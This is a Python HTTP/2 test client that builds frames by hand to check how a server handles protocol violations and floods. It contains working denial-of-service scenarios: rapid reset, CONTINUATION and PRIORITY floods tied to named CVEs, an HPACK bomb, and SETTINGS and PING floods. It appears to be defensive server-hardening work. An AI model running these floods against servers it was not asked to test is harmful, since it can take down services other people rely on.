#!/usr/bin/python3
"""A raw-frame HTTP/2 client for testing servers from the outside (issue 12).

It connects (h2c by prior knowledge over TCP, or TLS with ALPN h2 and no
certificate check), plays one named scenario with frames it builds itself
(hyperframe, hpack: Debian's python3-h2), and prints one JSON line with what
it observed: the GOAWAY (error code, last stream id), the RST_STREAM codes,
whether the connection stayed open, whether a second connection is still
served, the bytes and frames received, the WINDOW_UPDATEs, the server's RSS
(with --server-pid). It never judges: the spec decides what is right for
which server. Every threshold is a parameter.

    /usr/bin/python3 tests/http2/h2peer.py --port 8443 [--tls] --scenario NAME [options]
    /usr/bin/python3 tests/http2/h2peer.py --list

Only the standard library and python3-h2's hyperframe and hpack: the frames
are written by hand so that the client can break the protocol on purpose.
"""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import threading
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

ERROR_CODES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
               "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
               "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]

FRAME_NAMES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS", 5: "PUSH_PROMISE",
               6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}

SETTING_NAMES = {1: "HEADER_TABLE_SIZE", 2: "ENABLE_PUSH", 3: "MAX_CONCURRENT_STREAMS", 4: "INITIAL_WINDOW_SIZE",
                 5: "MAX_FRAME_SIZE", 6: "MAX_HEADER_LIST_SIZE", 8: "ENABLE_CONNECT_PROTOCOL"}


def error_name(code):
    return ERROR_CODES[code] if 0 <= code < len(ERROR_CODES) else "0x%x" % code


def reset_peak(pid):
    """Resets the process's VmHWM to its current RSS (Linux clear_refs 5), so the
    peak reported after a scenario is the scenario's own. False when not allowed."""
    if not pid:
        return False
    try:
        with open("/proc/%d/clear_refs" % pid, "w") as f:
            f.write("5")
        return True
    except OSError:
        return False


def rss_kb(pid):
    """VmRSS and VmHWM (peak) of a process in KiB, or None."""
    if not pid:
        return None
    try:
        with open("/proc/%d/status" % pid) as f:
            fields = dict(line.split(":", 1) for line in f if ":" in line)
        return {"rss": int(fields["VmRSS"].split()[0]), "peak": int(fields["VmHWM"].split()[0])}
    except (OSError, KeyError, ValueError):
        return None


class Closed(Exception):
    pass


class Conn:
    """One client connection: a writer (the scenario, on the main thread) and a
    reader thread that parses every frame the server sends and records it."""

    def __init__(self, args, settings=None, preface=True):
        self.args = args
        self.t0 = time.monotonic()
        raw = socket.socket(socket.AF_INET6 if ":" in args.host else socket.AF_INET, socket.SOCK_STREAM)
        if args.rcvbuf:
            # a small receive buffer (set before connecting, so the window is small from
            # the start): the kernel no longer absorbs what a flood makes the server send,
            # which must then queue in the server, where its limits are tested
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, args.rcvbuf)
        raw.settimeout(args.timeout)
        raw.connect((args.host, args.port))
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.alpn = None
        if args.tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE  # the test certificate is made at test time
            ctx.set_alpn_protocols(["h2"])
            raw = ctx.wrap_socket(raw, server_hostname=args.sni)
            self.alpn = raw.selected_alpn_protocol()
        self.sock = raw
        # non-blocking, each read and write under io_lock: an OpenSSL connection must not
        # be read and written by two threads at once
        self.sock.setblocking(False)
        self.io_lock = threading.Lock()
        self.send_lock = threading.Lock()
        self.cond = threading.Condition()
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder(max_header_list_size=1 << 30)
        self.decoder.max_allowed_table_size = 1 << 30
        # what the reader saw
        self.frames = {}
        self.recv_bytes = 0
        self.goaways = []
        self.rsts = []
        self.window_updates = []
        self.server_settings = None
        self.settings_acks = 0
        self.ping_acks = 0
        self.streams = {}   # id -> {"status", "headers", "body", "end"}
        self.closed = None  # "eof" or "reset: ..." once the server closed
        self.closed_at = None
        self.first_error_at = None  # first GOAWAY or RST_STREAM
        # flow control of what we send
        self.conn_window = 65535
        self.peer_initial_window = 65535
        self.stream_windows = {}
        self.peer_max_frame = 16384
        # sending
        self.sent_frames = 0
        self.sent_bytes = 0
        self.send_error = None
        self.send_stalled = False
        self._header_block = None
        self._header_end_stream = False
        self.reading = threading.Event()
        self.reading.set()
        if preface:
            self.send_raw(PREFACE)
            self.send(SettingsFrame(0, settings=settings or {SettingsFrame.ENABLE_PUSH: 0}))
        # only now: the reader acknowledges the server's SETTINGS, which must not go
        # out before our preface
        self.reader = threading.Thread(target=self._read_loop, daemon=True)
        self.reader.start()

    def now(self):
        return round(time.monotonic() - self.t0, 4)

    # ---- sending
    def send_raw(self, data, stall=None):
        """Sends bytes; a server that stops reading for `stall` seconds (a
        defence against floods) ends the send with send_stalled set."""
        stall = self.args.stall if stall is None else stall
        view = memoryview(data)
        with self.send_lock:
            if self.send_error:
                raise Closed(self.send_error)
            try:
                progress = time.monotonic()
                while view:
                    select.select([], [self.sock], [], 0.05)
                    with self.io_lock:
                        try:
                            n = self.sock.send(view)
                        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                            n = 0
                    if n:
                        view = view[n:]
                        self.sent_bytes += n
                        progress = time.monotonic()
                    elif time.monotonic() - progress > stall:
                        self.send_stalled = True
                        raise Closed("send stalled")
            except (OSError, ssl.SSLError) as e:
                self.send_error = self.send_error or type(e).__name__ + ": " + str(e)
                raise Closed(self.send_error)

    def send(self, *frames):
        self.send_raw(b"".join(f.serialize() for f in frames))
        self.sent_frames += len(frames)

    def headers_block(self, method="GET", path=None, extra=()):
        a = self.args
        scheme = "https" if a.tls else "http"
        fields = [(":method", method), (":scheme", scheme), (":authority", a.authority or "%s:%d" % (a.host, a.port)),
                  (":path", path or a.path)] + list(extra)
        # never indexed: our dynamic table stays empty, so scenarios that write
        # header blocks by hand (hpack_bomb) know the server's table exactly
        return self.encoder.encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in fields])

    def request(self, stream_id, method="GET", path=None, end_stream=True, extra=()):
        flags = ["END_HEADERS"] + (["END_STREAM"] if end_stream else [])
        with self.cond:
            self.stream_windows.setdefault(stream_id, self.peer_initial_window)
            self.streams.setdefault(stream_id, {"status": None, "body": 0, "end": False})
        self.send(HeadersFrame(stream_id, data=self.headers_block(method, path, extra), flags=flags))

    def send_body(self, stream_id, size, chunk=16384, end_stream=True, waits=None, deadline=None):
        """Sends size bytes of DATA within the server's windows, waiting for
        WINDOW_UPDATEs; records each wait as [bytes sent so far, seconds]."""
        sent = 0
        while sent < size:
            with self.cond:
                while True:
                    room = min(self.conn_window, self.stream_windows.get(stream_id, 0), self.peer_max_frame, chunk)
                    if room > 0 or self.closed or self.send_error or self.streams.get(stream_id, {}).get("end"):
                        break  # (an answer or a reset ended the stream: the rest is not wanted)
                    t = time.monotonic()
                    left = (deadline - t) if deadline else self.args.timeout
                    if left <= 0 or not self.cond.wait(left):
                        return sent
                    if waits is not None:
                        waits.append([sent, round(time.monotonic() - t, 4)])
                if room <= 0 or self.streams.get(stream_id, {}).get("end"):
                    return sent
                n = min(room, size - sent)
                self.conn_window -= n
                self.stream_windows[stream_id] -= n
            last = sent + n == size
            self.send(DataFrame(stream_id, data=b"x" * n, flags=["END_STREAM"] if last and end_stream else []))
            sent += n
        return sent

    # ---- reading
    def _read_exact(self, n):
        buf = bytearray()
        while len(buf) < n:
            self.reading.wait()
            tls_pending = self.args.tls and self.sock.pending()
            if not tls_pending:
                select.select([self.sock], [], [], 0.05)
            with self.io_lock:
                try:
                    chunk = self.sock.recv(n - len(buf))
                except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    continue
                except ssl.SSLZeroReturnError:
                    chunk = b""
                except (OSError, ssl.SSLError) as e:
                    raise Closed("reset: " + type(e).__name__)
            if not chunk:
                raise Closed("eof")
            buf += chunk
            self.recv_bytes += len(chunk)
        return bytes(buf)

    def _read_loop(self):
        try:
            while True:
                head = self._read_exact(9)
                frame, length = Frame.parse_frame_header(memoryview(head), strict=False)
                body = self._read_exact(length) if length else b""
                frame.parse_body(memoryview(body))
                self._on_frame(frame)
        except Closed as e:
            reason = str(e)
        except Exception as e:  # a frame hyperframe cannot parse is an observation too
            reason = "unparsable: %s: %s" % (type(e).__name__, e)
        with self.cond:
            self.closed = reason
            self.closed_at = self.now()
            self.cond.notify_all()

    def _on_frame(self, f):
        name = FRAME_NAMES.get(f.type, "0x%x" % f.type)
        with self.cond:
            self.frames[name] = self.frames.get(name, 0) + 1
            if isinstance(f, SettingsFrame):
                if "ACK" in f.flags:
                    self.settings_acks += 1
                else:
                    self._on_settings(f)
            elif isinstance(f, GoAwayFrame):
                self.goaways.append({"error": error_name(f.error_code), "code": f.error_code,
                                     "last_stream_id": f.last_stream_id,
                                     "debug": f.additional_data.decode("utf-8", "replace")[:200], "at": self.now()})
                self.first_error_at = self.first_error_at or self.now()
            elif isinstance(f, RstStreamFrame):
                self.rsts.append([f.stream_id, error_name(f.error_code)])
                self.first_error_at = self.first_error_at or self.now()
                self._stream(f.stream_id)["end"] = True
            elif isinstance(f, WindowUpdateFrame):
                self.window_updates.append([f.stream_id, f.window_increment, self.now()])
                if f.stream_id == 0:
                    self.conn_window += f.window_increment
                elif f.stream_id in self.stream_windows:
                    self.stream_windows[f.stream_id] += f.window_increment
            elif isinstance(f, PingFrame):
                if "ACK" in f.flags:
                    self.ping_acks += 1
            elif isinstance(f, (HeadersFrame, ContinuationFrame)):
                self._on_header_fragment(f)
            elif isinstance(f, DataFrame):
                s = self._stream(f.stream_id)
                s["body"] += len(f.data)
                s["end"] = s["end"] or "END_STREAM" in f.flags
            self.cond.notify_all()
        # outside the lock: acknowledging the server's SETTINGS is a send
        if isinstance(f, SettingsFrame) and "ACK" not in f.flags:
            try:
                self.send(SettingsFrame(0, flags=["ACK"]))
            except Closed:
                pass
        if isinstance(f, DataFrame) and f.data and self.args.auto_window:
            # give back what we read so the server can go on sending
            try:
                self.send(WindowUpdateFrame(0, window_increment=len(f.data)),
                          WindowUpdateFrame(f.stream_id, window_increment=len(f.data)))
            except Closed:
                pass

    def _on_settings(self, f):
        self.server_settings = {SETTING_NAMES.get(k, str(k)): v for k, v in f.settings.items()}
        if SettingsFrame.INITIAL_WINDOW_SIZE in f.settings:
            delta = f.settings[SettingsFrame.INITIAL_WINDOW_SIZE] - self.peer_initial_window
            self.peer_initial_window += delta
            for sid in self.stream_windows:
                self.stream_windows[sid] += delta
        if SettingsFrame.MAX_FRAME_SIZE in f.settings:
            self.peer_max_frame = f.settings[SettingsFrame.MAX_FRAME_SIZE]

    def _stream(self, sid):
        return self.streams.setdefault(sid, {"status": None, "body": 0, "end": False})

    def _on_header_fragment(self, f):
        if isinstance(f, HeadersFrame):
            # END_STREAM is on the HEADERS frame even when CONTINUATIONs follow
            self._header_end_stream = "END_STREAM" in f.flags
        self._header_block = (self._header_block or b"") + bytes(f.data)
        if "END_HEADERS" not in f.flags:
            return
        block, self._header_block = self._header_block, None
        s = self._stream(f.stream_id)
        try:
            for name, value in self.decoder.decode(block, raw=False):
                if name == ":status":
                    s["status"] = int(value)
        except Exception as e:
            s["decode_error"] = type(e).__name__
        if self._header_end_stream:
            s["end"] = True

    # ---- waiting
    def wait_for(self, predicate, seconds):
        """Waits until predicate() (under the lock) or the connection closed."""
        deadline = time.monotonic() + seconds
        with self.cond:
            while not predicate():
                if self.closed:
                    return predicate()
                left = deadline - time.monotonic()
                if left <= 0 or not self.cond.wait(left):
                    return predicate()
            return True

    def wait_settings(self):
        return self.wait_for(lambda: self.server_settings is not None, self.args.timeout)

    def wait_end(self, sid, seconds=None):
        return self.wait_for(lambda: self.streams.get(sid, {}).get("end"), seconds or self.args.timeout)

    def alive(self, seconds=1.0):
        """Whether the connection still answers a PING."""
        if self.closed or self.send_error:
            return False
        before = self.ping_acks
        try:
            self.send(PingFrame(0, opaque_data=b"evoalive"))
        except Closed:
            return False
        return self.wait_for(lambda: self.ping_acks > before, seconds) and not self.closed

    def settle(self, seconds):
        """Reads for `seconds`, or until the server closed the connection."""
        self.reading.set()
        self.wait_for(lambda: False, seconds)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def report(self):
        with self.cond:
            return {
                "alpn": self.alpn,
                "goaway": self.goaways[0] if self.goaways else None,
                "goaways": len(self.goaways),
                "rst_streams": self.rsts[:20],
                "rst_count": len(self.rsts),
                "rst_codes": sorted({code for _, code in self.rsts}),
                "closed": self.closed,
                "closed_at": self.closed_at,
                "first_error_at": self.first_error_at,
                "recv_bytes": self.recv_bytes,
                "recv_frames": dict(self.frames),
                "window_updates": self.window_updates[:200],
                "server_settings": self.server_settings,
                "sent_frames": self.sent_frames,
                "sent_bytes": self.sent_bytes,
                "send_error": self.send_error,
                "send_stalled": self.send_stalled,
                "responses": {str(k): v for k, v in sorted(self.streams.items())},
            }


# ---- scenarios: each plays on a Conn and returns extra observations

def sc_get(c, a):
    c.wait_settings()
    c.request(1, "GET")
    return {"complete": bool(c.wait_end(1))}


def sc_post_window(c, a):
    """A body larger than the server's initial window: it can only be sent
    as the server grants WINDOW_UPDATEs, which it should do as it reads."""
    c.wait_settings()
    c.request(1, "POST", a.post_path, end_stream=False,
              extra=[("content-length", str(a.body_size)), ("content-type", "application/octet-stream")])
    waits = []
    sent = c.send_body(1, a.body_size, waits=waits, deadline=time.monotonic() + a.timeout)
    done = c.wait_end(1)
    return {"body_sent": sent, "window_waits": waits[:100], "window_wait_count": len(waits), "complete": bool(done),
            "initial_window": c.peer_initial_window}


def flood(c, a, frames_of):
    """Sends a.count frames made by frames_of(i) in batches, not reading unless
    --read-during (the attacker that never reads the ACKs it provokes)."""
    if not a.read_during:
        c.reading.clear()
    t = time.monotonic()
    sent = 0
    try:
        batch = []
        for i in range(a.count):
            batch.extend(frames_of(i))
            if len(batch) >= a.batch:
                c.send(*batch)
                sent += len(batch)
                batch = []
                if a.rate:
                    time.sleep(a.batch / a.rate)
        if batch:
            c.send(*batch)
            sent += len(batch)
    except Closed:
        pass
    c.reading.set()
    return {"flood_frames_sent": sent, "flood_seconds": round(time.monotonic() - t, 4)}


def sc_rapid_reset(c, a):
    """CVE-2023-44487: open a stream and cancel it at once, a.count times."""
    c.wait_settings()

    def frames(i):
        sid = 1 + 2 * i
        return [HeadersFrame(sid, data=c.headers_block("GET"), flags=["END_HEADERS", "END_STREAM"]),
                RstStreamFrame(sid, error_code=8)]
    return flood(c, a, frames)


def sc_continuation_flood(c, a):
    """CVE-2024-27316: HEADERS without END_HEADERS, then CONTINUATIONs that
    never end, each with new header fields the server must buffer."""
    c.wait_settings()
    c.send(HeadersFrame(1, data=c.headers_block("GET")))
    enc = hpack.Encoder()
    value = "v" * a.header_size

    def frames(i):
        block = enc.encode([("x-flood-%d" % i, value)], huffman=False)
        return [ContinuationFrame(1, data=block)]
    return flood(c, a, frames)


def sc_settings_flood(c, a):
    c.wait_settings()
    return flood(c, a, lambda i: [SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535})])


def sc_ping_flood(c, a):
    c.wait_settings()
    return flood(c, a, lambda i: [PingFrame(0, opaque_data=struct.pack(">Q", i))])


def sc_empty_data_flood(c, a):
    c.wait_settings()
    c.request(1, "POST", a.post_path, end_stream=False)
    return flood(c, a, lambda i: [DataFrame(1, data=b"")])


def sc_priority_flood(c, a):
    """CVE-2019-9513: PRIORITY frames reshuffling the tree of idle streams."""
    c.wait_settings()

    def frames(i):
        sid = 1 + 2 * (i % 10000)
        dep = 1 + 2 * ((i * 7919) % 10000)
        return [PriorityFrame(sid, depends_on=0 if dep == sid else dep, stream_weight=i % 256)]
    return flood(c, a, frames)


def sc_hpack_bomb(c, a):
    """One large header put in the dynamic table, then header blocks that
    reference it again and again: a few bytes on the wire each, kilobytes
    decoded each."""
    c.wait_settings()
    name = b"x-bomb"
    size = min(a.header_size, 4096 - 32 - len(name) - 64)
    # literal with incremental indexing, new name (RFC 7541 6.2.1), no Huffman; sizes < 127
    # would need one byte, so encode the lengths with hpack's integer encoding
    from hpack.hpack import encode_integer
    literal = b"\x40" + bytes(encode_integer(len(name), 7)) + name + \
        bytes(encode_integer(size, 7)) + b"v" * size
    base = c.headers_block("GET")
    c.send(HeadersFrame(1, data=base + literal, flags=["END_HEADERS", "END_STREAM"]))
    # our requests never index (Conn.headers_block), so that entry is the only one in the
    # server's dynamic table: index 62, the byte 0xbe (indexed header field)
    refs = b"\xbe" * a.refs
    block = c.headers_block("GET") + refs
    frames = []
    step = c.peer_max_frame
    chunks = [block[i:i + step] for i in range(0, len(block), step)]
    frames.append(HeadersFrame(3, data=chunks[0], flags=["END_STREAM"] + (["END_HEADERS"] if len(chunks) == 1 else [])))
    for j, ch in enumerate(chunks[1:], 1):
        frames.append(ContinuationFrame(3, data=ch, flags=["END_HEADERS"] if j == len(chunks) - 1 else []))
    try:
        c.send(*frames)
    except Closed:
        pass
    return {"decoded_bytes_claimed": a.refs * (size + len(name)), "wire_bytes": len(block)}


def sc_oversize_headers(c, a):
    """A header list far over any sane limit, in distinct literal fields."""
    c.wait_settings()
    enc = hpack.Encoder()
    fields = [(":method", "GET"), (":scheme", "https" if a.tls else "http"),
              (":authority", a.authority or "%s:%d" % (a.host, a.port)), (":path", a.path)]
    value = "h" * a.header_size
    n = max(1, a.list_size // (a.header_size + 10))
    fields += [("x-big-%d" % i, value) for i in range(n)]
    block = enc.encode(fields, huffman=False)
    step = c.peer_max_frame
    chunks = [block[i:i + step] for i in range(0, len(block), step)]
    frames = [HeadersFrame(1, data=chunks[0], flags=["END_STREAM"] + (["END_HEADERS"] if len(chunks) == 1 else []))]
    for j, ch in enumerate(chunks[1:], 1):
        frames.append(ContinuationFrame(1, data=ch, flags=["END_HEADERS"] if j == len(chunks) - 1 else []))
    try:
        c.send(*frames)
    except Closed:
        pass
    c.wait_end(1)
    return {"header_list_bytes": len(block), "header_fields": n}


def sc_zero_window(c, a):
    """We advertise a stream window of 0 and never open it: the server cannot
    send the body and should give up after its send timeout."""
    c.wait_settings()
    c.request(1, "GET", a.path)
    c.wait_for(lambda: c.first_error_at or c.closed, a.stall_wait)
    return {"stall_wait": a.stall_wait}


def sc_invalid_preface(c, a):
    c.send_raw(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + b"\0" * 64)
    return {}


def sc_closed_stream(c, a):
    """DATA on a stream both sides have closed (RFC 9113 5.1: STREAM_CLOSED)."""
    c.wait_settings()
    c.request(1, "GET")
    complete = c.wait_end(1)
    try:
        c.send(DataFrame(1, data=b"late", flags=["END_STREAM"]))
    except Closed:
        pass
    return {"complete": bool(complete)}


def sc_stream_id_decrease(c, a):
    """A new stream with a lower id than one already opened (5.1.1: PROTOCOL_ERROR)."""
    c.wait_settings()
    c.request(5, "GET")
    c.wait_end(5)
    try:
        c.request(3, "GET")
    except Closed:
        pass
    return {}


def sc_stream_id_reuse(c, a):
    """HEADERS again on a stream that is closed."""
    c.wait_settings()
    c.request(1, "GET")
    c.wait_end(1)
    c.streams.pop(1, None)
    try:
        c.request(1, "GET")
    except Closed:
        pass
    return {}


def sc_even_stream_id(c, a):
    """A client-initiated stream must be odd (5.1.1: PROTOCOL_ERROR)."""
    c.wait_settings()
    try:
        c.request(2, "GET")
    except Closed:
        pass
    return {}


SCENARIOS = {
    "get": (sc_get, {}),
    "post_window": (sc_post_window, {}),
    "rapid_reset": (sc_rapid_reset, {"count": 2000}),
    "continuation_flood": (sc_continuation_flood, {"count": 100000}),
    "settings_flood": (sc_settings_flood, {"count": 1000000}),
    "ping_flood": (sc_ping_flood, {"count": 1000000}),
    "empty_data_flood": (sc_empty_data_flood, {"count": 100000}),
    "priority_flood": (sc_priority_flood, {"count": 100000}),
    "hpack_bomb": (sc_hpack_bomb, {}),
    "oversize_headers": (sc_oversize_headers, {}),
    "zero_window": (sc_zero_window, {"initial_window": 0}),
    "invalid_preface": (sc_invalid_preface, {}),
    "closed_stream": (sc_closed_stream, {}),
    "stream_id_decrease": (sc_stream_id_decrease, {}),
    "stream_id_reuse": (sc_stream_id_reuse, {}),
    "even_stream_id": (sc_even_stream_id, {}),
}


def second_connection(a):
    """Whether a fresh connection still gets a complete response."""
    try:
        c = Conn(a)
    except (OSError, Closed) as e:
        return {"ok": False, "error": str(e)}
    try:
        c.wait_settings()
        c.request(1, "GET", a.path)
        done = c.wait_end(1)
        s = c.streams.get(1, {})
        return {"ok": bool(done) and s.get("status") is not None, "status": s.get("status"), "body": s.get("body")}
    except Closed as e:
        return {"ok": False, "error": str(e)}
    finally:
        c.close()


class During:
    """Other clients while the scenario plays: a thread that opens a fresh
    connection and GETs --path on it, again and again (every 0.2 s), until
    stopped. Reports how many were served and how many were not."""

    def __init__(self, a):
        self.a, self.ok, self.failed, self.errors, self.slowest = a, 0, 0, [], 0.0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while True:
            t = time.monotonic()
            r = second_connection(self.a)
            if r.get("ok"):
                self.ok += 1
                self.slowest = max(self.slowest, time.monotonic() - t)
            else:
                self.failed += 1
                if len(self.errors) < 3:
                    self.errors.append(r.get("error") or r.get("status"))
            if self.stop.wait(0.2):
                return

    def report(self):
        self.stop.set()
        self.thread.join(30)
        return {"ok": self.ok, "failed": self.failed, "errors": self.errors, "slowest": round(self.slowest, 3)}


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--list", action="store_true", help="print the scenario names and exit")
    p.add_argument("--scenario", default="get")
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int)
    p.add_argument("--tls", action="store_true", help="TLS with ALPN h2 (certificate not checked)")
    p.add_argument("--sni", default="localhost")
    p.add_argument("--authority", help=":authority (default host:port)")
    p.add_argument("--path", default="/", help="the resource GETs ask for")
    p.add_argument("--post-path", default="/", help="the resource POSTs go to")
    p.add_argument("--count", type=int, help="frames (or streams) a flood sends")
    p.add_argument("--batch", type=int, default=100, help="frames per write in a flood")
    p.add_argument("--rate", type=float, default=0, help="flood frames per second (0: as fast as possible)")
    p.add_argument("--read-during", choices=["yes", "no"],
                   help="read while flooding (default: no for the SETTINGS and PING floods, whose attacker never "
                        "reads the ACKs it provokes; yes for the others, so a GOAWAY is seen before the close)")
    p.add_argument("--rcvbuf", type=int, help="our socket's receive buffer (floods: 4096)")
    p.add_argument("--body-size", type=int, default=1 << 20, help="POST body bytes (post_window)")
    p.add_argument("--header-size", type=int, default=4000, help="bytes of one header value")
    p.add_argument("--list-size", type=int, default=1 << 20, help="bytes of the header list (oversize_headers)")
    p.add_argument("--refs", type=int, default=16000, help="dynamic-table references (hpack_bomb)")
    p.add_argument("--initial-window", type=int, help="our SETTINGS_INITIAL_WINDOW_SIZE")
    p.add_argument("--no-auto-window", dest="auto_window", action="store_false",
                   help="never send WINDOW_UPDATEs for what we receive")
    p.add_argument("--stall-wait", type=float, default=10.0, help="seconds zero_window waits for the server")
    p.add_argument("--stall", type=float, default=5.0, help="a send blocked this long counts as stalled")
    p.add_argument("--settle", type=float, default=2.0, help="seconds to read after the scenario")
    p.add_argument("--timeout", type=float, default=10.0, help="connect and per-step timeout")
    p.add_argument("--server-pid", type=int, help="report this process's RSS before and after")
    p.add_argument("--no-second", dest="second", action="store_false", help="skip the second-connection check")
    p.add_argument("--during", action="store_true",
                   help="other clients on fresh connections while the scenario plays (report: during)")
    a = p.parse_args(argv)
    if a.list:
        return a
    if a.port is None:
        p.error("--port is required")
    if a.scenario not in SCENARIOS:
        p.error("unknown scenario %r (--list)" % a.scenario)
    defaults = SCENARIOS[a.scenario][1]
    if a.count is None:
        a.count = defaults.get("count", 1000)
    a.read_during = (a.read_during or ("no" if a.scenario in ("settings_flood", "ping_flood") else "yes")) == "yes"
    if a.rcvbuf is None:
        a.rcvbuf = 4096 if "flood" in a.scenario or a.scenario == "rapid_reset" else 0
    if a.initial_window is None:
        a.initial_window = defaults.get("initial_window")
    return a


def main(argv):
    a = parse_args(argv)
    if a.list:
        print("\n".join(SCENARIOS))
        return 0
    play = SCENARIOS[a.scenario][0]
    settings = {SettingsFrame.ENABLE_PUSH: 0}
    if a.initial_window is not None:
        settings[SettingsFrame.INITIAL_WINDOW_SIZE] = a.initial_window
    out = {"scenario": a.scenario, "target": "%s:%d" % (a.host, a.port), "tls": a.tls, "count": a.count}
    peak_reset = reset_peak(a.server_pid)
    rss_before = rss_kb(a.server_pid)
    during = During(a) if a.during else None
    t = time.monotonic()
    try:
        c = Conn(a, settings=settings, preface=a.scenario != "invalid_preface")
    except (OSError, Closed) as e:
        out["connect_error"] = str(e)
        print(json.dumps(out))
        return 0
    try:
        extra = play(c, a)
    except Closed as e:
        extra = {"scenario_stopped": str(e)}
    c.settle(a.settle)
    if during:
        out["during"] = during.report()
    out.update(extra)
    out["stayed_open"] = c.alive()
    out.update(c.report())
    out["elapsed"] = round(time.monotonic() - t, 3)
    c.close()
    if a.second:
        out["second_connection"] = second_connection(a)
    if a.server_pid:
        out["server_rss_kb"] = {"before": rss_before, "after": rss_kb(a.server_pid), "peak_reset": peak_reset}
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
